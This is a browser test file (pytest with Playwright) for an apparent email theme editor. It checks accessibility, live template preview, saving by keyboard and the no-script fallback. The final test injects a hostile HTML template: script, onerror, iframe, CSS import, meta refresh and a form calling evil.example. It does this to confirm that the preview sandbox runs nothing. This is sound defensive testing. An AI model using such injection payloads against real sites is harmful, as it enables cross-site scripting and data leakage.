"""The themes' pages in a real browser: a template is tried while it is typed, the mail beside it follows, and nothing in it can run."""

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from digest.database import open_database
from tests.desk.entering import House
from tests.desk.showing import filled, found, looking

if TYPE_CHECKING:
    from playwright.sync_api import Browser

FILE = "/themes/evening/file?name=heading.html"
HEADING = '<h2 class="section accent">{} {{{{ heading }}}}</h2>'


@pytest.fixture
def house(sqlite_template: Path, tmp_path: Path, now: datetime) -> Iterator[House]:
    path = tmp_path / "themes.db"
    path.write_bytes(sqlite_template.read_bytes())
    engine = open_database(f"sqlite:///{path}")
    (tmp_path / "themes" / "evening").mkdir(parents=True)
    (tmp_path / "themes" / "evening" / "heading.html").write_text(HEADING.format("Tonight:"))
    yield filled(House(engine=engine, folder=tmp_path, now=now - timedelta(hours=1), settings='[render]\ninliner = "fast"\n'))
    engine.dispose()


@pytest.mark.parametrize("colours", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_the_pages_are_fit_for_everybody(browser: "Browser", house: House, width: int, colours: str) -> None:
    with looking(browser, house, width=width, color_scheme=colours) as sight:
        for path in ("/themes", "/themes/evening", FILE, f"{FILE}&on=specimen"):
            sight.go(path)
            assert found(sight) == [], path
        sight.page.locator("#text").fill("{{ nothing }}")
        sight.page.locator(".wrong").wait_for()
        assert found(sight) == []
        assert sight.complaints == []


def test_a_template_is_tried_as_it_is_typed_and_kept_by_keyboard(browser: "Browser", house: House) -> None:
    file = house.folder / "themes" / "evening" / "heading.html"
    with looking(browser, house) as sight:
        sight.go(FILE)
        mail = sight.page.frame_locator("iframe").first
        mail.locator("h2", has_text="Tonight: Town").wait_for(state="attached")
        sight.page.locator("#text").fill(HEADING.format("At dusk:"))
        mail.locator("h2", has_text="At dusk: Town").wait_for(state="attached")
        assert "Tonight" in file.read_text()
        sight.page.locator("#text").fill("{% if %}")
        sight.page.locator(".wrong", has_text="line 1").wait_for()
        sight.page.locator("#text").fill(HEADING.format("At night:"))
        mail.locator("h2", has_text="At night: Town").wait_for(state="attached")
        sight.page.get_by_role("button", name="Keep").focus()
        sight.page.keyboard.press("Enter")
        sight.page.get_by_text("Kept: mails that are drawn").wait_for()
        assert file.read_text() == HEADING.format("At night:") + "\n"
        assert sight.complaints == []


def test_without_script_a_form_does_the_same(browser: "Browser", house: House) -> None:
    with looking(browser, house, java_script_enabled=False) as sight:
        sight.go(FILE)
        sight.page.locator("#text").fill(HEADING.format("At dusk:"))
        sight.page.get_by_role("button", name="Try it").click()
        sight.page.frame_locator("iframe").first.locator("h2", has_text="At dusk: Town").wait_for(state="attached")
        sight.page.get_by_role("button", name="Back to classic’s").click()
        sight.page.get_by_text("Given up").wait_for()
        assert not (house.folder / "themes" / "evening" / "heading.html").exists()


def test_a_hostile_template_runs_nothing_and_asks_for_nothing(browser: "Browser", house: House) -> None:
    hostile = """<tr><td><h2>Evil</h2><script>parent.document.title = "taken"; fetch("https://evil.example/script")</script>
<img src="https://evil.example/a.png" onerror="parent.document.title = 'taken'" alt=""><iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/b.css"><style>@import url(https://evil.example/c.css);
h2 { background: url(https://evil.example/d.png) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/e"><form action="https://evil.example/f"><button>Go</button></form></td></tr>"""
    with looking(browser, house) as sight:
        sight.go(FILE)
        sight.page.locator("#text").fill(hostile)
        for number in range(3):
            sight.page.frame_locator("iframe").nth(number).locator("h2", has_text="Evil").last.wait_for(state="attached")
        assert "taken" not in sight.page.title()
        assert [address for address in sight.asked if "evil" in address] == []
